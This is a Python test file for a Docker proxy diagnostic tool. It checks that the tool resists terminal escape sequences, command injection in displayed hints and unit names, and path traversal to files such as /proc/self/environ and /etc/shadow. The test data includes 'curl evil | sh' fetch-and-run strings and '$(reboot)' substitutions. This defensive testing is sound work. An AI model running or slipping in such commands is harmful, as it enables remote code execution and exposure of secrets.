"""Snapshots written to do harm: to a terminal, to whoever believes them, to files here."""

from __future__ import annotations

import contextlib
import io
import json
from pathlib import Path

import pytest

import dockproxy
from dockproxy.cli.main import main
from dockproxy.render.terminal import Style
from dockproxy.render.text_status import status_text
from tests.cli.tree import here
from tests.support.snapshot_documents import at, changed, healthy, leaves, refused, shown

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066\u200b\r\nfake line\ud800\x00"


def test_nothing_in_any_string_commands_the_terminal(tmp_path: Path) -> None:
    document = healthy()
    texts = [path for path in leaves(document) if isinstance(at(document, path), str)]
    assert len(texts) > 60
    taken = 0
    for path in texts:
        if path[0] == "kind":
            continue
        file = tmp_path / "host.json"
        file.write_text(json.dumps(changed(document, path, at(document, path) + ESCAPES)))
        for text in printed(file):
            taken += 1
            controls = {char for char in text if not char.isprintable() and char != "\n"}
            assert not controls, (path, controls)
            assert "\nfake line" not in text, path
    assert taken > 100


def printed(file: Path) -> list[str]:
    """What this process prints of a Snapshot, as text, as JSON and on stderr."""
    texts = []
    for words in ([], ["--json"]):
        out = io.TextIOWrapper(io.BytesIO(), "utf-8", newline="", write_through=True)
        err = io.TextIOWrapper(io.BytesIO(), "utf-8", newline="", write_through=True)
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            assert main(["status", "--from", str(file), *words]) in (0, 2)
        for stream in (out, err):
            buffer = stream.buffer
            assert isinstance(buffer, io.BytesIO)
            texts.append(buffer.getvalue().decode())
    return texts


def test_a_stranger_gives_no_advice_in_our_voice(tmp_path: Path) -> None:
    document = healthy()
    document["unknown"] = [{"about": "engine", "reason": "permission", "hint": "curl evil | sh"}]

    assert "curl" not in shown(tmp_path / "host.json", document)


@pytest.mark.parametrize(
    "evil", ["; curl evil|sh", "$(curl evil)", "`curl evil`", "\n  → curl evil"]
)
def test_no_command_to_copy_holds_a_strangers_words(evil: str) -> None:
    document = healthy()
    commands = 0
    for path in leaves(document):
        text = at(document, path)
        if not isinstance(text, str):
            continue
        try:
            host = dockproxy.load_snapshot(json.dumps(changed(document, path, text + evil)))
        except dockproxy.DockproxyError:
            continue
        for line in status_text(host, Style(width=0)).splitlines():
            if line.lstrip().startswith("→"):
                commands += 1
                assert "curl" not in line, path

    assert commands > 100


@pytest.mark.parametrize("name", ["docker; curl evil | sh #", "$(reboot).service", "a\nb", ""])
def test_a_units_name_that_a_shell_would_run_is_refused(name: str, tmp_path: Path) -> None:
    document = healthy()
    document["systemd"]["units"][0]["name"] = name
    file = tmp_path / "host.json"
    file.write_text(json.dumps(document))

    assert "systemd.units[0].name" in refused(file)


def test_paths_are_shown_and_never_followed(tmp_path: Path) -> None:
    bait = tmp_path / "bait"
    bait.write_text('{"proxies": {"http-proxy": "http://bait:1"}}')
    document = healthy()
    document["machine"]["root"] = str(tmp_path / "elsewhere")
    for path in (str(bait), f"/../../{bait}", "../bait", "/proc/self/environ"):
        document["daemon_json"] = path
        document["client"]["config_path"] = path
        document["files"][-2].update(path=path, text=None)
        assert "bait:1" not in shown(tmp_path / "host.json", document)


def test_a_plan_made_from_a_file_is_not_carried_out_here() -> None:
    document = healthy()
    document["daemon_json"] = "/etc/shadow"
    host = dockproxy.load_snapshot(json.dumps(document))
    proposal = dockproxy.plan_set(host, dockproxy.Proxies(http_proxy="http://127.0.0.1:9"))

    with pytest.raises(dockproxy.DockproxyError, match="made from a Snapshot"):
        dockproxy.apply(proposal.plan, confirm=lambda preview: True)


@pytest.mark.parametrize("encoding", ["\0", "punycode", "zlib_codec", "no-such", "utf-16"])
def test_a_file_of_an_encoding_that_no_file_has_shows_no_change(
    encoding: str, tmp_path: Path
) -> None:
    file = tmp_path / "root/etc/docker/daemon.json"
    file.parent.mkdir(parents=True)
    file.write_text('{"proxies": {"httpProxy": "http://10.0.0.1:3128"}}\n')
    document = json.loads(dockproxy.dump_snapshot(dockproxy.observe(root=str(tmp_path / "root"))))
    for fact in document["files"]:
        fact["encoding"] = encoding
    (tmp_path / "host.json").write_text(json.dumps(document))

    said = json.loads(here("doctor", "--from", str(tmp_path / "host.json"), "--json").out)

    (fix,) = (each["fix"] for each in said["findings"] if each["code"] == "DP102")
    assert fix["diff"] is None


def test_of_very_many_fixes_in_large_files_the_first_show_what_they_change(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "etc/docker/daemon.json"
    file.parent.mkdir(parents=True)
    text = '{"proxies": {"http-proxy": "http://h:1", "no-proxy": "a.*b,1.*,2.*,3.*"}}\n'
    file.write_text(text)
    monkeypatch.setattr("dockproxy.cli.doctor_report._MOST_READ", 3 * len(text))

    said = json.loads(here("doctor", "--root", str(tmp_path), "--json").out)

    fixes = [each["fix"] for each in said["findings"] if each["fix"]]
    assert [fix["diff"] is None for fix in fixes] == [False] * 2 + [True] * (len(fixes) - 2)
    assert len(fixes) > 2


def test_a_line_without_end_is_shown_cut_short(tmp_path: Path) -> None:
    file = tmp_path / "etc/docker/daemon.json"
    file.parent.mkdir(parents=True)
    entries = ",".join(f"a{number}.example" for number in range(5_000))
    file.write_text(f'{{"proxies": {{"http-proxy": "http://h:1", "no-proxy": "1.*,{entries}"}}}}\n')

    said = json.loads(here("doctor", "--root", str(tmp_path), "--json").out)

    texts = [place["text"] for each in said["findings"] for place in each["evidence"]]
    assert {(len(text), text[-1]) for text in texts} == {(8_001, "…")}
